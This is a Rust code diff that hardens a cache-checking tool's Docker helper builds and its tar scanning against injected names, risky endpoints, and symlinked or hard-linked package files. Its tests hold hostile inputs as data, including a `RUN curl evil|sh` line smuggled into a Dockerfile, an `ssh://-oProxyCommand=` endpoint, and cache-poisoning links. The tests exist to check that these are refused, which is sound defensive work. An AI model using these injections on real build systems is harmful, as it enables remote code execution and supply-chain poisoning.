@@ -56,9 +56,12 @@ pub struct HelperBuild<'a> {
 
 /// Refuses recorded names that a helper build's Dockerfile cannot carry as they are: they are
 /// hostile, and none may end the `--mount` option (a comma, a quote), the flag (whitespace: the
-/// rest would run as the step's command) or the line (a line break or a continuation).
+/// rest would run as the step's command) or the line (a line break or a continuation), and
+/// none may name a variable (`$`): BuildKit expands them in mount options and `FROM`, so the
+/// helper would mount another cache than the one named.
 pub fn check_helper_names(mount_id: &str, from: &str, base: &str) -> Result<(), RemoteError> {
-    let breaks = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\\' | '"' | '\'');
+    let breaks =
+        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\\' | '"' | '\'' | '$');
     if mount_id.is_empty()
         || mount_id.contains(breaks)
         || mount_id.contains(',')
@@ -81,6 +84,7 @@ pub fn check_helper_names(mount_id: &str, from: &str, base: &str) -> Result<(), 
 pub async fn copy_out(h: &HelperBuild<'_>) -> Result<tempfile::TempDir, RemoteError> {
     let from = h.uses.and_then(|u| u.from.as_deref()).unwrap_or("");
     check_helper_names(h.mount_id, from, h.base)?;
+    let docker_host = crate::remote::engine::EngineAddr::parse(h.endpoint)?.docker_host();
     let mut options = format!(
         "type=cache,id={},target=/cachewarden-mount,readonly",
         h.mount_id
@@ -128,7 +132,7 @@ pub async fn copy_out(h: &HelperBuild<'_>) -> Result<tempfile::TempDir, RemoteEr
         .arg("--output")
         .arg(format!("type=local,dest={}", out.path().display()))
         .arg(&context)
-        .env("DOCKER_HOST", h.endpoint)
+        .env("DOCKER_HOST", &docker_host)
         .env("DOCKER_BUILDKIT", "1")
         .stdin(Stdio::null())
         .output()
@@ -160,15 +164,21 @@ pub fn scan(archive: &Path) -> io::Result<Scan> {
     let mut scan = Scan::default();
     let mut later = Later::default();
     let mut hard_links: Vec<(Vec<u8>, u32, Vec<u8>)> = Vec::new();
+    // Where each regular file's content lies in the archive: a hard link to it is checked
+    // by its own name against that content.
+    let mut contents: BTreeMap<Vec<u8>, (u64, u64)> = BTreeMap::new();
     tar::entries(io::BufReader::new(File::open(archive)?), |h, data| {
         let entry = match h.kind {
             tar::Kind::Directory => return Ok(()),
-            tar::Kind::Symlink => FileEntry {
-                path: h.path.clone(),
-                size: h.link.len() as u64,
-                mode: h.mode,
-                sha256: Sha256::digest(&h.link).into(),
-            },
+            tar::Kind::Symlink => {
+                later.links.push((h.path.clone(), h.link.clone()));
+                FileEntry {
+                    path: h.path.clone(),
+                    size: h.link.len() as u64,
+                    mode: h.mode,
+                    sha256: Sha256::digest(&h.link).into(),
+                }
+            }
             tar::Kind::HardLink => {
                 hard_links.push((h.path.clone(), h.mode, h.link.clone()));
                 return Ok(());
@@ -186,6 +196,7 @@ pub fn scan(archive: &Path) -> io::Result<Scan> {
                         .sections
                         .insert(entry.path.clone(), (h.offset, entry.size));
                 }
+                contents.insert(entry.path.clone(), (h.offset, entry.size));
                 entry
             }
         };
@@ -194,6 +205,8 @@ pub fn scan(archive: &Path) -> io::Result<Scan> {
     })?;
     // A hard link has its target's content (tar archives each inode's content once).
     scan.files.sort_by(|a, b| a.path.cmp(&b.path));
+    // Kept aside until every link is resolved: the search needs the files sorted.
+    let mut linked: Vec<FileEntry> = Vec::new();
     for (path, mode, target) in hard_links {
         let mut target = target;
         while target.starts_with(b"./") {
@@ -211,12 +224,29 @@ pub fn scan(archive: &Path) -> io::Result<Scan> {
             ));
             continue;
         };
-        scan.files.push(FileEntry {
+        // The link's name gets every content check its own content would: a content address,
+        // a `.ziphash`, a wheel or a crate hard-linked to other bytes is not a way around them.
+        if let Some(&(start, len)) = contents.get(&target) {
+            let mut section = Section {
+                file: File::open(archive)?,
+                start,
+                len,
+                at: 0,
+            };
+            let entry = hash_file(&mut section, path.clone(), mode, &mut scan, &mut later)?;
+            if path.ends_with(b".zip") || path.ends_with(b".whl") {
+                later.sections.insert(path, (start, len));
+            }
+            linked.push(entry);
+            continue;
+        }
+        linked.push(FileEntry {
             path,
             mode,
             ..found
         });
     }
+    scan.files.extend(linked);
     // The last entry of a path wins, as when unpacking.
     scan.files.reverse();
     scan.files.sort_by(|a, b| a.path.cmp(&b.path));
@@ -279,6 +309,8 @@ struct Later {
     crates: Vec<Vec<u8>>,
     /// (prefix, index dir) -> crate file name -> cksum.
     cargo_index: BTreeMap<(String, String), BTreeMap<String, String>>,
+    /// Symbolic links: (path, target).
+    links: Vec<(Vec<u8>, Vec<u8>)>,
 }
 
 fn hash_file(
@@ -382,6 +414,34 @@ fn hash_file(
 
 impl Later {
     fn finish(self, archive: &Path, files: &[FileEntry], scan: &mut Scan) {
+        // A symbolic link where a checked file belongs: the tools follow it, the checks cannot
+        // (the target is not hashed), so it is a mismatch, never a silent skip.
+        for (path, target) in &self.links {
+            let sibling_hash = |ext: &[u8], other: &[u8]| {
+                path.strip_suffix(ext)
+                    .is_some_and(|stem| self.ziphashes.contains_key(&[stem, other].concat()))
+            };
+            let rule = if checks::npm_address(path).is_some() || checks::npm_malformed(path) {
+                Some(Rule::NpmContent)
+            } else if path.ends_with(b".ziphash") || sibling_hash(b".zip", b".ziphash") {
+                Some(Rule::GoZiphash)
+            } else if path.ends_with(b".whl") {
+                Some(Rule::WheelRecord)
+            } else if checks::cargo_crate_key(path).is_some() {
+                Some(Rule::CargoIndex)
+            } else {
+                None
+            };
+            if let Some(rule) = rule {
+                scan.mismatches.push(Mismatch {
+                    path: path.clone(),
+                    rule,
+                    member: None,
+                    expected: "a regular file".to_owned(),
+                    actual: format!("a symbolic link to `{}`", String::from_utf8_lossy(target)),
+                });
+            }
+        }
         let open = |rel: &[u8]| -> io::Result<io::BufReader<Section>> {
             let (start, len) = self
                 .sections
@@ -628,16 +688,146 @@ mod tests {
 }
 
 #[cfg(test)]
+mod link_tests {
+    use super::*;
+
+    /// A Go module zip, npm blob, wheel or crate replaced by a symbolic link to other bytes in
+    /// the mount (the tools follow it; the walk does not) is a mismatch, not a file skipped.
+    #[test]
+    fn symbolic_links_where_checked_files_belong_are_mismatches() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().join("m");
+        let at = |rel: &str| {
+            let path = root.join(rel);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            path
+        };
+        std::fs::write(
+            at("evil.zip"),
+            zip::stored_zip(&[("m@v1.0.0/x.go", b"evil")]),
+        )
+        .unwrap();
+        std::fs::write(at("cache/download/m/@v/v1.0.0.ziphash"), b"h1:original=\n").unwrap();
+        std::os::unix::fs::symlink("../../../../evil.zip", at("cache/download/m/@v/v1.0.0.zip"))
+            .unwrap();
+        let hex = checks::hex(&Sha512::digest(b"real"));
+        let npm = format!(
+            "_cacache/content-v2/sha512/{}/{}/{}",
+            &hex[..2],
+            &hex[2..4],
+            &hex[4..]
+        );
+        std::os::unix::fs::symlink("/tmp/evil", at(&npm)).unwrap();
+        std::os::unix::fs::symlink("/tmp/evil", at("wheels/p-1-py3-none-any.whl")).unwrap();
+        std::os::unix::fs::symlink("/tmp/a.zip", at("plain/not-a-module.zip")).unwrap();
+        let archive = dir.path().join("m.tar");
+        let status = std::process::Command::new("tar")
+            .arg("-cf")
+            .arg(&archive)
+            .arg("-C")
+            .arg(&root)
+            .arg(".")
+            .status()
+            .unwrap();
+        assert!(status.success());
+        let scan = scan(&archive).unwrap();
+        let bad: Vec<(Rule, String)> = scan
+            .mismatches
+            .iter()
+            .map(|m| (m.rule, String::from_utf8_lossy(&m.path).into_owned()))
+            .collect();
+        assert_eq!(
+            bad,
+            vec![
+                (Rule::NpmContent, npm),
+                (Rule::GoZiphash, "cache/download/m/@v/v1.0.0.zip".to_owned()),
+                (Rule::WheelRecord, "wheels/p-1-py3-none-any.whl".to_owned()),
+            ],
+            "{:#?}",
+            scan.mismatches
+        );
+    }
+
+    /// A poisoned npm blob or wheel archived as a hard link to other bytes (tar stores the
+    /// second name of an inode as a link) is checked by its own name: still a mismatch.
+    #[test]
+    fn hard_links_get_the_content_checks_of_their_name() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().join("m");
+        let hex = checks::hex(&Sha512::digest(b"the real tarball"));
+        let address = format!(
+            "_cacache/content-v2/sha512/{}/{}/{}",
+            &hex[..2],
+            &hex[2..4],
+            &hex[4..]
+        );
+        std::fs::create_dir_all(root.join(&address).parent().unwrap()).unwrap();
+        std::fs::write(root.join("evil"), b"evil tarball").unwrap();
+        std::fs::hard_link(root.join("evil"), root.join(&address)).unwrap();
+        let whl = zip::stored_zip(&[("p/__init__.py", b"evil"), ("p-1.dist-info/RECORD", b"")]);
+        std::fs::create_dir_all(root.join("wheels")).unwrap();
+        std::fs::write(root.join("other.bin"), &whl).unwrap();
+        std::fs::hard_link(
+            root.join("other.bin"),
+            root.join("wheels/p-1-py3-none-any.whl"),
+        )
+        .unwrap();
+        let archive = dir.path().join("m.tar");
+        // The plain names first: the checked names are archived as links to them.
+        let status = std::process::Command::new("tar")
+            .arg("-cf")
+            .arg(&archive)
+            .arg("-C")
+            .arg(&root)
+            .args(["evil", "other.bin", "_cacache", "wheels"])
+            .status()
+            .unwrap();
+        assert!(status.success());
+        let scan = scan(&archive).unwrap();
+        let bad: Vec<(Rule, String)> = scan
+            .mismatches
+            .iter()
+            .map(|m| (m.rule, String::from_utf8_lossy(&m.path).into_owned()))
+            .collect();
+        assert!(
+            bad.contains(&(Rule::NpmContent, address.clone())),
+            "{bad:?} {:?}",
+            scan.unchecked
+        );
+        assert!(
+            bad.contains(&(Rule::WheelRecord, "wheels/p-1-py3-none-any.whl".to_owned())),
+            "{bad:?} {:?}",
+            scan.unchecked
+        );
+        let linked = scan
+            .files
+            .iter()
+            .find(|f| f.path == address.as_bytes())
+            .unwrap();
+        assert_eq!(
+            linked.sha256,
+            <[u8; 32]>::from(Sha256::digest(b"evil tarball"))
+        );
+    }
+}
+
+#[cfg(test)]
 mod injection_tests {
     use super::*;
 
     /// A recorded mount id, `from` or base image that would end the mount option or the
-    /// Dockerfile line is refused before any build runs.
+    /// Dockerfile line, or name a variable BuildKit would expand into another cache's id, is
+    /// refused before any build runs.
     #[tokio::test]
     async fn hostile_names_never_reach_the_dockerfile() {
         let evil_from = MountUse {
             id: "pip".into(),
             from: Some("x\nRUN curl evil|sh".into()),
+            ..MountUse::default()
+        };
+        let var_from = MountUse {
+            id: "pip".into(),
+            from: Some("$img".into()),
             ..MountUse::default()
         };
         for (mount_id, base, uses) in [
@@ -646,6 +836,10 @@ mod injection_tests {
             ("pip echo planted; true", "busybox", None),
             ("pip\\", "busybox", None),
             ("pip", "busybox\nRUN evil", None),
+            ("${CACHEWARDEN_NONCE}", "busybox", None),
+            ("pip$x", "busybox", None),
+            ("pip", "$base", None),
+            ("pip", "busybox", Some(&var_from)),
             ("pip", "busybox", Some(&evil_from)),
         ] {
             let helper = HelperBuild {
@@ -661,5 +855,34 @@ mod injection_tests {
                 "{err}"
             );
         }
+    }
+
+    /// A recorded endpoint the `docker` CLI would reach by running a program (`ssh://`, whose
+    /// host can be an `ssh` option) is refused before the CLI runs.
+    #[tokio::test]
+    async fn recorded_endpoints_of_other_schemes_never_reach_the_cli() {
+        let marker = tempfile::tempdir().unwrap();
+        let planted = marker.path().join("ran");
+        // A `docker` that would record being run.
+        let docker = marker.path().join("docker");
+        std::fs::write(&docker, format!("#!/bin/sh\ntouch {}\n", planted.display())).unwrap();
+        std::fs::set_permissions(&docker, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .unwrap();
+        for endpoint in [
+            "ssh://-oProxyCommand=touch${IFS}/tmp/cw-pwned@host",
+            "npipe:////./pipe/docker",
+            "fd://3",
+        ] {
+            let helper = HelperBuild {
+                docker: docker.to_str().unwrap(),
+                endpoint,
+                base: "busybox",
+                mount_id: "pip",
+                uses: None,
+            };
+            let err = copy_out(&helper).await.unwrap_err();
+            assert!(err.to_string().contains("endpoint"), "{err}");
+        }
+        assert!(!planted.exists(), "the docker CLI ran");
     }
 }
